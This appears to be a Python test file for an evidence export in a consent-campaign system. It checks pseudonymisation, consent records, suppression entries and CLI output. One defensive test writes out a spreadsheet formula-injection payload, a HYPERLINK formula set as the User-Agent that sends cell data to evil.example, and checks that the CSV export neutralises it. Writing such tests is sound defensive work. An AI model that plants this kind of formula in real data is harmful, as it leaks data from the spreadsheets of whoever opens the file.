"""Evidence export: per enrolled contact (pseudonymised), messages, consent events with proof, the
final state and the suppression entry — for a campaign, or for one person."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

from click.testing import CliRunner
from starlette.testclient import TestClient

from orchestrator.cli.main import main
from orchestrator.delivery.worker import dispatch_once
from orchestrator.domain.clock import FixedClock
from orchestrator.proof.evidence import campaign_evidence, pseudonym
from orchestrator.rendering.links import LinkClaims
from orchestrator.runtime import Runtime
from orchestrator.campaigns.sweep import sweep
from preference_centre.app import create_app
from tests.support.factories import launch, person, run


def story(rt: Runtime, write_csv: Callable[..., Path], clock: FixedClock) -> int:
    """Person 1 confirms on the page, person 2 one-click unsubscribes, person 3 never answers."""
    campaign_id = launch(rt, write_csv([person(1), person(2), person(3)]))
    run(dispatch_once(rt))
    client = TestClient(create_app(rt))
    page = rt.links.dumps("page", LinkClaims(contact_id=1, campaign_id=campaign_id, channel="email"))
    assert client.post(f"/p/{page}", data={"email": "yes", "action": "confirm"},
                       headers={"user-agent": "Mozilla/5.0 (iPhone)"}).status_code == 200
    unsub = rt.links.dumps("unsubscribe", LinkClaims(contact_id=2, campaign_id=campaign_id, channel="email"))
    assert client.post(f"/u/{unsub}", data={"List-Unsubscribe": "One-Click"}).status_code == 200
    clock.advance(timedelta(days=31))
    sweep(rt)
    return campaign_id


def test_campaign_evidence_json(rt: Runtime, write_csv: Callable[..., Path], clock: FixedClock) -> None:
    campaign_id = story(rt, write_csv, clock)
    data = campaign_evidence(rt, campaign_id)
    assert data["ledger"]["intact"] and data["campaign"]["state"] == "completed"
    by = {c["contact"]: c for c in data["contacts"]}
    assert set(by) == {pseudonym(rt, 1), pseudonym(rt, 2), pseudonym(rt, 3)}
    text = json.dumps(data)
    assert "person1@" not in text and "Prénom" not in text and "+3361234" not in text  # no profile data

    confirmer = by[pseudonym(rt, 1)]
    assert confirmer["final_state"] == "confirmed"
    [sent] = [m for m in confirmer["messages"] if m["status"] == "sent"]
    assert sent["channel"] == "email" and sent["template_version"] and sent["provider_id"] and sent["sent_at"]
    yes = next(e for e in confirmer["consent_events"] if e["action"] == "confirmed")
    assert yes["source"] == "preference_centre" and yes["user_agent"] == "Mozilla/5.0 (iPhone)" and yes["ip"]
    assert data["wordings"][yes["wording_hash"]]["name"] == "preference_page"
    assert [m["status"] for m in confirmer["messages"] if m["step"] > 0] == ["skipped", "skipped"]

    unsubscriber = by[pseudonym(rt, 2)]
    assert unsubscriber["final_state"] == "declined"
    assert [e["source"] for e in unsubscriber["consent_events"]] == ["one_click"]
    assert unsubscriber["suppression"] == [{"channel": "email", "reason": "unsubscribed", "source": "one_click",
                                            "created_at": "2026-11-25T09:00:00+00:00"}]

    silent = by[pseudonym(rt, 3)]
    assert silent["final_state"] == "expired" and silent["erased"]
    assert {e["action"] for e in silent["consent_events"]} == {"expired"}
    assert silent["suppression_note"]


def test_evidence_commands_csv_and_contact(rt: Runtime, write_csv: Callable[..., Path], clock: FixedClock,
                                           database_url: str) -> None:
    campaign_id = story(rt, write_csv, clock)
    env = {"RECONSENT_DATABASE__URL": database_url}
    result = CliRunner().invoke(main, ["evidence", "campaign", str(campaign_id), "--format", "csv"], env=env)
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.output)))
    records = {(r["contact"], r["record"], r["action"] or r["status"]) for r in rows}
    assert (pseudonym(rt, 1), "consent_event", "confirmed") in records
    assert (pseudonym(rt, 1), "message", "sent") in records
    assert (pseudonym(rt, 2), "suppression", "") in records
    assert (pseudonym(rt, 3), "request", "expired") in records
    assert {r["final_state"] for r in rows if r["contact"] == pseudonym(rt, 3)} == {"expired"}

    result = CliRunner().invoke(main, ["evidence", "contact", "--email", "person2@example.org"], env=env)
    assert result.exit_code == 0
    data = json.loads(result.output)
    assert data["address_suppression"]["reason"] == "unsubscribed"
    assert [c["contact"] for c in data["contacts"]] == [pseudonym(rt, 2)]
    missing = CliRunner().invoke(main, ["evidence", "contact", "--email", "nobody@example.org"], env=env)
    assert missing.exit_code == 1 and "no contact and no suppression entry" in missing.output
    assert CliRunner().invoke(main, ["evidence", "campaign", "99"], env=env).exit_code == 1


def test_a_formula_in_a_user_agent_is_inert_in_the_csv_and_exact_in_the_json(
        rt: Runtime, write_csv: Callable[..., Path], database_url: str) -> None:
    """Issue 15: anyone sets their User-Agent; it reached the auditor's spreadsheet as a live formula."""
    ua = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    campaign_id = launch(rt, write_csv([person(1)]))
    run(dispatch_once(rt))
    page = rt.links.dumps("page", LinkClaims(contact_id=1, campaign_id=campaign_id, channel="email"))
    assert TestClient(create_app(rt)).post(f"/p/{page}", data={"email": "yes", "action": "confirm"},
                                           headers={"user-agent": ua}).status_code == 200
    env = {"RECONSENT_DATABASE__URL": database_url}
    result = CliRunner().invoke(main, ["evidence", "campaign", str(campaign_id), "--format", "csv"], env=env)
    assert result.exit_code == 0
    [event] = [r for r in csv.DictReader(io.StringIO(result.output)) if r["action"] == "confirmed"]
    assert event["user_agent"] == "'" + ua
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in csv.reader(io.StringIO(result.output)) for cell in row)
    as_json = CliRunner().invoke(main, ["evidence", "campaign", str(campaign_id)], env=env)
    assert as_json.exit_code == 0
    [confirmer] = json.loads(as_json.output)["contacts"]
    assert [e["user_agent"] for e in confirmer["consent_events"] if e["action"] == "confirmed"] == [ua]
